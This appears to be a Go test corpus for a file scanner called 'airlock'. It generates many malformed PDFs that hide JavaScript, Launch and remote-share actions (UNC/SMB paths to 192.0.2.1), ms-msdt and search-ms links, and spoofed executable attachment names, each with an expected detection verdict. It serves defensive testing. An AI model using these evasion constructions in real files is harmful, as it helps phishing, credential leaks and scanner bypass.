package corpus

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"slices"
	"strings"

	"airlock"
)

// recoveredPDFs are what readers make of broken or ambiguous files: PDFium, pdf.js and others go on where
// the standard ends, and not all alike.
func recoveredPDFs() []Case {
	cases := []Case{}
	add := func(name string, want airlock.Reason, make func() []byte) {
		cases = append(cases, hostileFile("pdf-"+name+".pdf", pdfType, want, make))
	}
	active := func(name string, make func() []byte) { add(name, airlock.ActiveContent, make) }
	script := "/S /JavaScript /JS (app.alert\\(1\\))"
	for _, word := range []string{"endobj", "endstream", "stream", "trailer", "obj", "xref", "startxref", "foo", "{", "}", "]", ")", ">"} {
		active("with-script-behind-the-word-"+wordName(word), onePDF("/OpenAction 5 0 R", "<</Type /Action "+word+" "+script+">>"))
	}
	for _, word := range []string{"endobj", "startxref", "]", "{"} {
		active("that-goes-elsewhere-behind-the-word-"+wordName(word), onePDF("/OpenAction 5 0 R", "<</A "+word+" /S /GoToR /D [0 /Fit] /F (\\\\\\\\192.0.2.1\\\\s\\\\a.pdf)>>"))
	}
	active("that-goes-elsewhere-in-an-array-that-a-word-ends", onePDF("/OpenAction 5 0 R", "<</A [1 endobj /S /GoToR /D [0 /Fit] /F (//192.0.2.1/s)>>"))
	active("with-a-dictionary-that-is-never-closed", onePDF("/OpenAction 5 0 R", "<</S /GoToR /D [0 /Fit] /F (//192.0.2.1/s)"))
	active("with-script-by-a-name-that-0x80-ends", onePDF("/OpenAction <</S /JavaScript\x80/J (x)>>"))
	active("with-script-by-a-name-that-0xff-ends", onePDF("/OpenAction <</S /JavaScript\xff/J (x)>>"))
	active("with-script-by-a-name-that-a-zero-ends", onePDF("/OpenAction <</S /JavaScript#00x /J (x)>>"))
	active("with-blanks-of-0x80-around-obj", func() []byte {
		return append(onePDF("/OpenAction 9 0 R")(), "9\x800\xffobj\x80"+pdfScript+" endobj\n"...)
	})
	active("with-obj-behind-a-dot", func() []byte { return append(onePDF("/OpenAction 9 0 R")(), "9 0.obj"+pdfScript+" endobj\n"...) })
	active("with-script-that-null-follows-a-blank-of-0x80", onePDF("/OpenAction <</Z\x80z /V /S /JavaScript null /J (x)>>"))
	active("with-script-that-null-follows-and-0x80-precedes", onePDF("/OpenAction <</Y \x80 /S /JavaScript null /J (x)>>"))
	active("with-a-program-that-a-word-precedes", onePDF("/OpenAction <</S foo /Launch /F (a)>>"))
	active("with-a-program-by-a-string", onePDF("/OpenAction <</S (Launch) /F (a)>>"))
	active("with-a-program-by-a-string-elsewhere", onePDF("/OpenAction <</S 5 0 R /F (a)>>", "(Launch)"))
	active("with-script-whose-kind-is-empty", onePDF("/OpenAction <</S / /JS (x)>>"))
	active("with-script-without-a-kind", onePDF("/Names <</EmbeddedFiles 5 0 R>>", "<</Names [(a) <</JS 6 0 R>>]>>", "(app.alert\\(1\\))"))
	active("with-script-outside-of-objects", func() []byte { return append(onePDF("")(), "\n<<"+script+">>\n"...) })
	active("with-script-behind-a-comment-outside-of-objects", func() []byte { return append(onePDF("")(), "\n% x\n/JavaScript\n"...) })
	active("with-script-in-hex-digits", onePDF("", "<2F </JavaScript>"))
	active("with-packed-script-in-hex-digits", packedPDF("", flated, "<2F </JavaScript>"))
	active("with-script-whose-kind-is-empty-where-states-are", onePDF("", "<</AP <</N <</S / /JS 6 0 R>>>>>>", "(app.alert\\(1\\))"))
	active("with-a-tree-of-scripts-that-holds-one", onePDF("/Names <</JavaScript 5 0 R>>", "<</Names [(a) 6 0 R]>>", "null"))
	active("with-a-tree-of-scripts-that-an-update-fills", func() []byte {
		return append(onePDF("/Names <</JavaScript 5 0 R>>", "<</Names []>>")(), "5 0 obj <</Kids [9 0 R]>> endobj\n"...)
	})
	active("with-a-tree-of-scripts-that-is-missing", onePDF("/Names <</JavaScript 9 0 R>>"))
	active("with-script-in-a-string-that-an-object-begins-in", onePDF("/OpenAction 9 0 R", "(/JavaScript (\n9 0\xffobj\xff"+pdfScript+"\nendobj) )"))
	active("with-script-in-a-string-that-stands-for-a-key", onePDF("/OpenAction 5 0 R", "<<(/S /JavaScript /J (x)) /A 1>>"))
	active("with-script-in-hex-digits-that-stand-for-a-key", onePDF("/OpenAction 5 0 R", "<< < /S /JavaScript /J 1 > /A 1>>"))
	active("with-a-link-in-hex-digits-that-stand-for-a-key", onePDF("/OpenAction 5 0 R", "<< < /S /URI /URI (javascript:x\\(\\))>>"))
	active("with-a-program-behind-an-end-that-is-a-value", onePDF("", "<</A >> /F (a.exe) /EF <</F 6 0 R>>>>", pdfStream("", "x")))
	active("with-a-program-behind-a-bracket-that-stands-for-a-key", onePDF("", "<<[ /F (a.exe) /EF <</F 6 0 R>>>>", pdfStream("", "x")))
	active("with-a-program-in-a-dictionary-that-stands-for-a-key", onePDF("", "<</F (a.exe) << /EF <</F 6 0 R>>>>", pdfStream("", "x")))
	active("that-goes-elsewhere-by-an-object-and-has-an-attachment", onePDF("/OpenAction <</S /GoToR /F 5 0 R > /EF <<>>>>", "(//192.0.2.1/s)"))
	active("with-an-exe-whose-table-is-elsewhere-and-holds-more", onePDF("", "<</Type /Filespec /F (a.txt) /EF 6 0 R>>", "<</F 7 0 R /X 1>>", pdfStream("", pdfFakeEXE)))
	active("with-a-reference-without-a-blank", onePDF("/OpenAction <</S /GoToR /F 5 0R>>", "(//192.0.2.1/s)"))
	active("with-script-before-a-kind-that-is-empty-where-states-are", onePDF("", "<</AP <</N <</JS 6 0 R /S />>>>>>", "(app.alert\\(1\\))"))
	active("with-a-script-in-a-fonts-matrix", onePDF("", "<</Type /Font /FontMatrix [1 2 3 4 5 (0\\); alert\\(1)]>>"))
	active("with-a-script-in-a-fonts-matrix-elsewhere", onePDF("", "<</Type /Font /FontMatrix 6 0 R>>", "[1 2 3 4 5 (0; x)]"))
	active("with-a-program-whose-number-a-comment-hides", func() []byte {
		m := onePage("", "<</Type /Filespec /F (a.txt) /EF <</F 6 0 R>>>>")
		return append(m.end(), "6 %7\n0 obj <<>>\nstream\n"+pdfFakeEXE+"\nendstream endobj\n"...)
	})
	active("with-a-program-behind-a-filter-elsewhere", func() []byte {
		return append(onePDF("", "<</Type /Filespec /F (a.txt) /EF <</F 6 0 R>>>>", pdfStream("/Filter 9 0 R", zlibbed(pdfFakeEXE)))(), "9 0 obj /FlateDecode endobj\n"...)
	})
	add("with-an-attachment-by-a-list-of-filters", airlock.Uninspectable, attached("a.txt", "/Type /EmbeddedFile /F [/AHx]", "x"))
	add("with-an-attachment-by-two-filters", airlock.Uninspectable, attached("a.txt", "/Type /EmbeddedFile /F /AHx", "x"))
	add("with-packed-objects-in-broken-lzw", airlock.Uninspectable, packedPDF("", func(s string) (string, string) { return "/Filter /LZWDecode", lzwed(s)[:5] + "\xff\xfe\xff" }, "[1]"))
	add("with-packed-objects-in-ascii85-behind-its-mark", airlock.Uninspectable, packedPDF("", func(s string) (string, string) { return "/Filter /A85", "<~" + ascii85ed(s) }, "[1]"))
	return slices.Concat(cases, ambiguousPDFs())
}

// wordName is a word as a part of a file's name.
func wordName(word string) string {
	if word[0] >= 'a' && word[0] <= 'z' {
		return word
	}
	return hex.EncodeToString([]byte(word))
}

// ambiguousPDFs have objects in streams that readers unpack each in a way of its own.
func ambiguousPDFs() []Case {
	cases := []Case{}
	for name, dict := range map[string]string{
		"f-is-a-filter":                    "/F /Fl",
		"f-is-another-filter":              "/Filter /FlateDecode /F /AHx",
		"f-is-a-list-of-filters":           "/F [/AHx] /Filter /FlateDecode",
		"dp-is-there-too":                  "/Filter /FlateDecode /DecodeParms null /DP <</Predictor 1>>",
		"a-word-is-among-the-keys":         "/A xref /Filter /FlateDecode",
		"endobj-is-among-the-keys":         "/A endobj /Filter /FlateDecode",
		"obj-is-among-the-keys":            "/A obj /Filter /FlateDecode",
		"a-blank-of-0x80-is-among-them":    "/Filter\x80x /AHx /Filter /FlateDecode",
		"the-filter-is-behind-a-bracket":   "/A ] /Filter /FlateDecode",
		"the-predictor-is-there-twice":     "/Filter /FlateDecode /DecodeParms <</Predictor 1 /Predictor 12 /Columns 8>>",
		"first-is-there-twice":             "/First 9 /Filter /FlateDecode",
		"first-is-elsewhere":               "/Filter /FlateDecode /First 3 0 R",
		"the-data-are-in-a-file":           "/Filter /FlateDecode /F (a.bin)",
		"the-filters-are-parted-by-a-word": "/Filter [/FlateDecode x /AHx]",
		"the-predictor-is-no-list":         "/Filter [/FlateDecode] /DecodeParms <</Predictor 12 /Columns 8>>",
		"the-predictor-is-a-list":          "/Filter /FlateDecode /DecodeParms [<</Predictor 12 /Columns 8>>]",
		"the-predictor-is-unknown":         "/Filter /FlateDecode /DecodeParms <</Predictor 3 /Columns 8>>",
		"the-parameters-are-a-number":      "/Filter [/FlateDecode] /DecodeParms [/A <</Predictor 1>>]",
		"the-parameters-are-elsewhere":     "/Filter /FlateDecode /DecodeParms 3 0 R /DP 3 0 R",
		"a-string-stands-for-a-key":        "(x) /Filter /FlateDecode",
		"a-number-ends-in-a-word":          "/A 0x /Filter /FlateDecode",
	} {
		cases = append(cases, hostileFile("pdf-with-packed-objects-where-"+name+".pdf", pdfType, airlock.Uninspectable,
			packedPDF("/OpenAction 6 0 R", func(s string) (string, string) { return dict, zlibbed(s) }, "[1 2]")))
	}
	table := func(name string, want airlock.Reason, first int, body string) {
		cases = append(cases, hostileFile("pdf-with-packed-objects-and-a-table-"+name+".pdf", pdfType, want, func() []byte {
			m := onePage("/OpenAction 6 0 R")
			filter, data := flated(body)
			m.stream(fmt.Sprintf("/Type /ObjStm /N 2 /First %d %s", first, filter), data)
			return xrefStream(m, 2)
		}))
	}
	table("with-a-word-in-it", airlock.Uninspectable, 10, "6 x 7 4   [1] "+pdfScript[:3])
	table("with-a-bracket-in-it", airlock.Uninspectable, 10, "6 0 ( 7 4 [1] [2] )")
	table("that-points-into-a-string", airlock.ActiveContent, 8, "6 4 7 0 ([] "+pdfScript+")")
	table("and-the-word-endobj-in-an-object", airlock.ActiveContent, 9, "6 0 7 40 <</Type /Action endobj /S /GoToR /F (//192.0.2.1/s)>> [1]")
	table("and-a-string-elsewhere", airlock.ActiveContent, 9, "6 0 7 24 <</S /GoToR /F 7 0 R>> (//192.0.2.1/s)")
	table("and-a-name-that-a-string-hides", airlock.ActiveContent, 8, "6 0 7 3 []) /JavaScript (")
	return cases
}

// readablePDFs are honest and near what readers mend.
func readablePDFs() []Case {
	cases := []Case{}
	add := func(name string, make func() []byte) {
		cases = append(cases, honestFile("pdf-"+name+".pdf", pdfType, make))
	}
	add("with-a-tree-of-scripts-that-is-empty", onePDF("/Names <</JavaScript <</Names []>> /Dests null>>"))
	add("with-a-tree-of-scripts-that-is-null", onePDF("/Names <</JavaScript null>>"))
	add("with-a-tree-of-scripts-elsewhere-that-is-empty", onePDF("/Names <</Dests 5 0 R /JavaScript 5 0 R>>", "<</Names []>>"))
	add("with-an-empty-list-of-xfa", onePDF("/AcroForm <</Fields [] /XFA []>>"))
	add("with-a-font-called-JS", onePDF("", "<</Font <</JS 3 0 R>> /XObject <</Launch 4 0 R>>>>"))
	add("with-a-button-whose-state-is-JS", onePDF("", "<</FT /Btn /V /JS /AS /Off /AP <</N <</JS 4 0 R /Off 4 0 R>>>> /Opt [/JS]>>"))
	add("with-a-name-in-gbk", onePDF("", "<</Type /Font /BaseFont /\xcb\xce\xcc\xe5\x80\xff,Bold /Subtype /Type0>>"))
	add("whose-metadata-tell-of-scripts", onePDF("", pdfStream("/Type /Metadata /Subtype /XML", "<x:xmpmeta>/JavaScript /JS /Launch and /S/JavaScript/JS(x)</x:xmpmeta>")))
	add("whose-picture-holds-JS-by-chance", onePDF("", pdfStream("/Type /XObject /Subtype /Image /Filter /DCTDecode", "\xff\xd8\xff/JS\x00/XFA\x20/JS(\xff\xd9")))
	add("with-comments-about-scripts", func() []byte {
		return bytes.Replace(onePDF("")(), []byte("2 0 obj"), []byte("% no /JavaScript here\n2 0 obj % nor /JS here\n"), 1)
	})
	add("with-packed-text-about-scripts", packedPDF("", flated, "<</Title (/JavaScript and /JS \\(x\\)) /Author <2F4A53>>>", "(/Launch)"))
	add("with-page-labels", onePDF("/PageLabels <</Nums [0 <</S /r>> 4 <</S /D /P (JS-)>>]>>"))
	add("with-a-missing-bracket", onePDF("", "<</A [1 2 3 >>", "<</B 1>>"))
	add("with-the-word-obj-in-a-picture", onePDF("", pdfStream("/Subtype /Image", "\xd0obj\x1a<< \x90obj<<[ (")))
	return cases
}

// elsewherePDFs lead to other computers, or to what runs.
func elsewherePDFs() []Case {
	cases := []Case{}
	active := func(name string, make func() []byte) {
		cases = append(cases, hostileFile("pdf-"+name+".pdf", pdfType, airlock.ActiveContent, make))
	}
	goTo := func(file string, more ...string) func() []byte {
		return onePDF("/OpenAction <</S /GoToR /D [0 /Fit] /F "+file+">>", more...)
	}
	for name, file := range map[string]string{
		"by-slashes":                       "(//192.0.2.1/s/a.pdf)",
		"by-a-slash-and-backslashes":       "(/\\\\\\\\192.0.2.1\\\\s\\\\a.pdf)",
		"by-one-of-each":                   "(/\\\\192.0.2.1/s)",
		"by-octal-digits":                  "(\\134\\134192.0.2.1\\134s)",
		"in-hex-digits":                    "<5c5c3139322e302e322e315c73>",
		"in-utf16":                         "<" + hex.EncodeToString([]byte(pdfWide("\ufeff\\\\192.0.2.1\\s"))) + ">",
		"in-utf16-from-the-other-end":      "<fffe5c005c006100>",
		"in-utf16-without-a-mark":          "<005c005c00610062>",
		"in-utf8":                          "(\xef\xbb\xbf\\\\\\\\192.0.2.1\\\\s)",
		"behind-blanks":                    "( \t\r\n  //192.0.2.1/s)",
		"behind-a-blank-that-nobody-sees":  "<" + hex.EncodeToString([]byte(pdfWide("\ufeff\u200b\u3164//192.0.2.1/s"))) + ">",
		"with-a-language":                  "<feff001b0065006e001b005c005c0061>",
		"by-a-file-address":                "(file://192.0.2.1/s/a.pdf)",
		"by-a-file-address-with-a-drive":   "(file://c:x@192.0.2.1/s)",
		"by-a-file-address-of-backslashes": "(FILE:\\\\\\\\192.0.2.1\\\\s)",
		"by-a-file-address-of-five":        "(file://///192.0.2.1/s)",
		"by-a-file-address-in-escapes":     "(f%69le:%2f%2f192.0.2.1/s)",
		"by-smb":                           "(smb://192.0.2.1/s)",
		"by-a-path-of-the-system":          "(\\\\??\\\\UNC\\\\192.0.2.1\\\\s)",
		"by-a-device":                      "(\\\\\\\\?\\\\UNC\\\\192.0.2.1\\\\s)",
		"by-a-dictionary":                  "<</Type /Filespec /F (//192.0.2.1/s)>>",
		"by-uf":                            "<</Type /Filespec /F (a.pdf) /UF (//192.0.2.1/s)>>",
		"by-dos":                           "<</F (a.pdf) /DOS (//192.0.2.1/s)>>",
		"by-unix":                          "<</Unix (//192.0.2.1/s)>>",
		"by-mac":                           "<</Mac (//192.0.2.1/s)>>",
		"with-an-empty-attachment":         "<</F (//192.0.2.1/s) /EF <<>>>>",
	} {
		active("that-goes-elsewhere-"+name, goTo(file))
	}
	active("with-a-page-of-a-file-that-an-object-names", onePDF("", pdfStream("/Type /XObject /Subtype /Form /Ref 6 0 R", ""), "<</F (http://192.0.2.1/a.pdf) /Page 0>>"))
	active("with-a-page-of-a-file-whose-name-is-an-object", onePDF("", pdfStream("/Type /XObject /Subtype /Form /Ref <</F 6 0 R /Page 0>>", ""), "(http://192.0.2.1/a.pdf)"))
	active("whose-stream-lies-on-the-web-by-a-dictionary-elsewhere", onePDF("", "<</Length 0 /F 6 0 R>>\nstream\n\nendstream", "<</FS /URL /F (http://192.0.2.1/s)>>"))
	active("that-goes-elsewhere-by-an-object", goTo("5 0 R", "(//192.0.2.1/s)"))
	active("that-goes-elsewhere-by-an-object-of-an-object", goTo("5 0 R", "6 0 R", "(//192.0.2.1/s)"))
	active("that-goes-elsewhere-by-an-object-that-an-update-changes", func() []byte {
		return append(goTo("5 0 R", "(a.pdf)")(), "5 0 obj (//192.0.2.1/s) endobj\n"...)
	})
	active("that-goes-elsewhere-by-an-attachment", goTo("5 0 R", "<</F (//192.0.2.1/s) /EF <</F 6 0 R>>>>", pdfStream("/Type /EmbeddedFile", "x")))
	active("that-goes-elsewhere-beside-an-attachment", onePDF("/OpenAction <</S /GoToR /D [0 /Fit] /F (//192.0.2.1/s) /EF <<>>>>"))
	active("that-goes-elsewhere-by-a-key-that-is-there-twice", onePDF("/OpenAction <</S /GoToR /F (//192.0.2.1/s) /F (a.pdf)>>"))
	active("with-a-thread-elsewhere", onePDF("/OpenAction <</S /Thread /D 0 /F (\\\\\\\\192.0.2.1\\\\a.pdf)>>"))
	active("with-a-form-that-is-sent-to-a-share", onePDF("", "<</FT /Btn /A <</S /SubmitForm /F (//192.0.2.1/s)>>>>"))
	active("whose-stream-lies-elsewhere", onePDF("", "<</Length 0 /F (\\\\\\\\192.0.2.1\\\\s)>>\nstream\n\nendstream"))
	active("whose-stream-lies-on-the-web", onePDF("", "<</Length 0 /F <</FS /URL /F (http://192.0.2.1/s)>>>>\nstream\n\nendstream"))
	active("whose-stream-lies-on-the-web-by-an-object", onePDF("", "<</Length 0 /F 6 0 R>>\nstream\n\nendstream", "(http://192.0.2.1/s)"))
	active("with-a-page-of-another-file", onePDF("", pdfStream("/Type /XObject /Subtype /Form /Ref <</F (http://192.0.2.1/a.pdf) /Page 0>>", "")))
	active("with-an-attachment-whose-long-name-is-elsewhere", onePDF("/Names <</EmbeddedFiles <</Names [(x) 5 0 R]>>>>", "<</Type /Filespec /F 7 0 R /EF <</F 6 0 R>>>>", pdfStream("/Type /EmbeddedFile", "x"), "("+strings.Repeat("a", 5000)+".exe)"))
	active("with-a-page-of-another-file-elsewhere", onePDF("", pdfStream("/Type /XObject /Subtype /Form /Ref 6 0 R", ""), "(http://192.0.2.1/a.pdf)"))
	active("with-a-film-elsewhere", onePDF("", "<</Subtype /Movie /Movie <</F (//192.0.2.1/s.avi)>>>>"))
	return slices.Concat(cases, linkedPDFs())
}

func pdfWide(s string) string {
	var b strings.Builder
	for _, r := range s {
		b.WriteByte(byte(r >> 8))
		b.WriteByte(byte(r))
	}
	return b.String()
}

// linkedPDFs have links and attachments.
func linkedPDFs() []Case {
	cases := []Case{}
	link := func(want airlock.Reason, name, address string) {
		cases = append(cases, hostileFile("pdf-with-a-link-"+name+".pdf", pdfType, want,
			onePDF("", "<</Type /Annot /Subtype /Link /A <</S /URI /URI "+address+">>>>", "(vbscript:x)")))
	}
	for name, address := range map[string]string{
		"to-script":                       "(javascript:alert\\(1\\))",
		"to-script-behind-void":           "(javascript:void\\(0\\);alert\\(1\\))",
		"to-script-behind-a-void-of-more": "(javascript:void\\(alert\\(1\\)\\))",
		"to-script-behind-history":        "(javascript:history.x\\(alert\\(1\\)\\))",
		"to-script-behind-a-post":         "(javascript:__doPostBack\\('a',alert\\(1\\)\\))",
		"to-script-with-tabs":             "(\\tJava\\nScript\\r:alert\\(1\\))",
		"to-script-in-utf16":              "<" + hex.EncodeToString([]byte(pdfWide("\ufeffjavascript:x()"))) + ">",
		"to-script-in-escapes":            "(java%73cript:x\\(\\))",
		"to-script-behind-4000-blanks":    "(" + strings.Repeat(" ", 4000) + "javascript:x\\(\\))",
		"to-script-behind-5000-blanks":    "(" + strings.Repeat(" ", 5000) + "javascript:x\\(\\))",
		"to-a-vbscript":                   "(vbscript:x)",
		"to-a-vbscript-elsewhere":         "6 0 R",
		"to-msdt":                         "(ms-msdt:/id x)",
		"to-an-office-command":            "(MS-OfficeCmd:%7b%7d)",
		"to-another-ms":                   "(ms-appinstaller:?source=http://192.0.2.1/)",
		"to-a-search":                     "(search-ms:query=a&crumb=location:\\\\\\\\192.0.2.1)",
		"to-another-search":               "(search:query=a)",
		"to-a-share":                      "(file://192.0.2.1/s/a)",
		"to-a-share-by-backslashes":       "(\\\\\\\\192.0.2.1\\\\s)",
		"to-a-page-of-its-own":            "(data:text/html,<b>)",
		"to-a-picture-that-runs":          "(data:image/svg+xml;base64,AA)",
		"to-mhtml":                        "(mhtml:http://192.0.2.1/a!x)",
		"to-a-prefixed-script":            "(url:javascript:x\\(\\))",
	} {
		link(airlock.ActiveContent, name, address)
	}
	for name, address := range map[string]string{
		"to-the-web": "(HTTPS://example.com/?q=javascript:x&p=file://a)", "to-mail": "(mailto:a@example.com?subject=data:text/html)", "to-a-phone": "(tel:+1-555)",
		"that-does-nothing": "(javascript:void\\(0\\);)", "that-posts": "(javascript:__doPostBack\\('ctl00$a','Page$2'\\))", "to-a-disk": "(file:///C:/docs/a.pdf)", "beside": "(other.pdf#page=2)",
		"of-5000-bytes": "(https://example.com/?" + strings.Repeat("a", 5000) + ")", "to-an-old-site": "(ftp://example.com/pub)", "to-a-picture": "(data:image/png;base64,AA)",
	} {
		link("", name, address)
	}
	cases = append(cases, hostileFile("pdf-whose-links-begin-at-a-share.pdf", pdfType, airlock.ActiveContent, onePDF("/URI <</Base (file://192.0.2.1/s/)>>")))
	return slices.Concat(cases, basedPDFs(), namedPDFs())
}

// basedPDFs have links that readers put together, and links that are names.
func basedPDFs() []Case {
	cases := []Case{}
	add := func(want airlock.Reason, name, base, address string, more ...string) {
		cases = append(cases, hostileFile("pdf-with-"+name+".pdf", pdfType, want, onePDF("/URI <</Base "+base+">>",
			append([]string{"<</Type /Annot /Subtype /Link /A <</S /URI /URI " + address + ">>>>"}, more...)...)))
	}
	for name, base := range map[string]string{
		"of-two-backslashes": "(\\\\\\\\)", "of-one-slash": "(/)", "of-a-file": "(file:/)", "of-a-script": "(javascript:)", "of-a-scheme": "(javascript)", "of-a-host": "(www.example.com)",
		"of-no-host": "(http://)", "that-is-a-name": "/file:#2f", "that-is-a-scheme-by-name": "/vbscript", "elsewhere": "6 0 R", "elsewhere-that-is-a-name": "7 0 R", "in-utf16": "<feff002f>",
	} {
		add(airlock.ActiveContent, "a-base-"+name, base, "(/192.0.2.1/a)", "(file:/)", "/javascript:")
	}
	for name, address := range map[string]string{
		"script": "/javascript:alert#281#29", "share": "/file:#2f#2f192.0.2.1#2fs", "share-by-backslashes": "/\\\\192.0.2.1\\s", "script-elsewhere": "6 0 R", "settings": "/ms-msdt:x",
	} {
		add(airlock.ActiveContent, "a-link-by-a-name-to-a-"+name, "()", address, "/javascript:alert#281#29")
	}
	add("", "a-base-at-a-host", "(HTTPS://example.com/a/)", "(b.html)")
	add("", "a-base-at-a-host-elsewhere", "6 0 R", "(b.html)", "(http://example.com/)")
	add("", "no-base-and-texts-elsewhere", "()", "/http:#2f#2fexample.com", "(Note: a text)", "(file:///C:/a)", "5 0 R", "/Any#3aname")
	return cases
}

// namedPDFs have attachments with names of all kinds.
func namedPDFs() []Case {
	cases := []Case{}
	name := func(want airlock.Reason, what, file string) {
		cases = append(cases, hostileFile("pdf-with-an-attachment-"+what+".pdf", pdfType, want,
			onePDF("/Names <</EmbeddedFiles <</Names [(x) 5 0 R]>>>>", "<</Type /Filespec /F "+file+" /EF <</F 6 0 R>>>>",
				pdfStream("/Type /EmbeddedFile", "x"), "(a.exe)")))
	}
	for what, file := range map[string]string{
		"whose-long-name-ends-as-a-program": "(" + strings.Repeat("a", 300) + ".exe)",
		"whose-name-has-4090-bytes":         "(" + strings.Repeat("a", 4086) + ".hta)",
		"whose-name-is-turned":              "<" + hex.EncodeToString([]byte(pdfWide("\ufeffa\u202efdp.txt"))) + ">",
		"whose-name-is-isolated":            "<" + hex.EncodeToString([]byte(pdfWide("\ufeffa\u2067fdp.txt"))) + ">",
		"whose-name-has-a-line-end":         "(a.txt\\n.pdf)",
		"whose-extension-nobody-sees":       "<" + hex.EncodeToString([]byte(pdfWide("\ufeffa.pdf.e\u200bx\u2800e\u3164"))) + ">",
		"whose-name-is-utf16-without-mark":  "<0061002e006a0073>",
		"whose-name-is-utf16-of-odd-length": "<feff0061002e0065007800650a>",
		"whose-name-ends-with-half-a-byte":  "<feff0061002e0065007800650a 0 >",
		"whose-name-lacks-its-last-digit":   "<612e61707>",
		"whose-name-a-zero-ends":            "(a.exe\\000.txt)",
		"whose-name-ends-in-dots":           "(a.exe. . ..)",
		"whose-name-has-a-language":         "<feff0061002e0065001b0065006e001b00780065>",
		"whose-name-is-elsewhere":           "7 0 R",
		"whose-name-is-there-twice":         "(a.exe) /F (a.txt)",
		"whose-name-for-the-mac-runs":       "(a.txt) /Mac (a.command)",
		"whose-key-is-behind-a-word":        "(a.txt) /A endobj /UF (a.js)",
	} {
		name(airlock.ActiveContent, what, file)
	}
	name(airlock.Uninspectable, "whose-name-has-5000-bytes", "("+strings.Repeat("a", 5000)+".txt)")
	for what, file := range map[string]string{
		"called-in-hebrew":      "<" + hex.EncodeToString([]byte(pdfWide("\ufeff\u05d3\u05d5\u05d7\u200f.pdf"))) + ">",
		"called-with-an-emoji":  "<" + hex.EncodeToString([]byte(pdfWide("\ufeff\u2764\ufe0f.txt"))) + ">",
		"called-in-latin":       "(r\xe9sum\xe9 (2).pdf)",
		"called-by-its-path":    "(C:\\\\Users\\\\a\\\\report.xlsx)",
		"that-came-from-a-path": "(\\\\\\\\server\\\\share\\\\report.xlsx)",
		"with-4000-letters":     "(" + strings.Repeat("a", 4000) + ".txt)",
	} {
		name("", what, file)
	}
	cases = append(cases,
		honestFile("pdf-that-goes-to-a-file-beside.pdf", pdfType, onePDF("/OpenAction <</S /GoToR /D [0 /Fit] /F <</Type /Filespec /F (../b/other.pdf) /UF <feff006f0074006800650072>>>>>")),
		honestFile("pdf-with-a-form-that-is-sent-by-mail.pdf", pdfType, onePDF("", "<</FT /Btn /A <</S /SubmitForm /F (mailto:a@example.com)>>>>")),
		honestFile("pdf-with-a-large-picture-at-the-print-shop.pdf", pdfType, onePDF("", pdfStream("/Subtype /Form /OPI <</2.0 <</Type /OPI /Version 2.0 /F (\\\\\\\\server\\\\a.tif)>>>>", ""))),
		honestFile("pdf-with-a-title-that-is-a-path.pdf", pdfType, onePDF("", "<</Title 6 0 R>>", "(\\\\\\\\server\\\\share\\\\report.doc)")),
	)
	return cases
}
